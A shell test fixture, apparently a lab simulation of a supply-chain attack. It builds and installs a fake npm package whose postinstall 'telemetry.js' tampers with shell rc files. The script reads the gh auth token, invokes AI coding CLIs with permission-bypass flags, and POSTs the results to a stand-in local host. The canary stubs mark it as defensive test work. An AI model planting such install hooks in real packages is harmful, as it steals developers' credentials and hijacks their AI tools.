. /lab/files/lib/common.sh
stub
mkdir -p /srv/package /usr/local/bin
export PATH=/usr/local/bin:$PATH
for name in gh claude gemini q; do
  printf '#!/bin/sh\necho canary-%s\n' $name >/usr/local/bin/$name
  chmod +x /usr/local/bin/$name
done
echo '# mine' >/root/.bashrc
echo '# mine' >/root/.zshrc
cat >/srv/package/package.json <<'E'
{"name":"nx-sim","version":"21.5.0","scripts":{"postinstall":"node telemetry.js"}}
E
cat >/srv/package/telemetry.js <<'E'
const { execFile } = require("node:child_process");
const fs = require("node:fs");
const post = (body) => fetch("http://127.0.0.3:8080/user/repos", { method: "POST", body }).catch(() => undefined);
const ask = (line) => new Promise((done) => execFile(line[0], line.slice(1), (_error, said) => done(said)));
const lines = ["gh auth token", "npm whoami", "claude --dangerously-skip-permissions -p list", "gemini --yolo -p list", "q chat --trust-all-tools"];
void (async () => {
  // All at once: whatever came last would not come at all, so soon is it killed.
  for (const name of [".bashrc", ".zshrc"]) fs.appendFileSync(`/root/${name}`, "# sim\n");
  void post("began");
  const took = await Promise.all(lines.map((line) => ask(line.split(" "))));
  fs.writeFileSync("/tmp/inventory.txt", took.join(""));
  void post(took.join(""));
  setTimeout(() => process.exit(), 15000);
})();
E
pack /srv/package /srv/package.tgz
install /srv/package.tgz
